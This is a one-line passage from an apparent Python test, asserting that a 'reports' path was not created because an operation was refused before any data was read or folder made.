    assert not reports.exists()  # refused before the data was read or a folder made
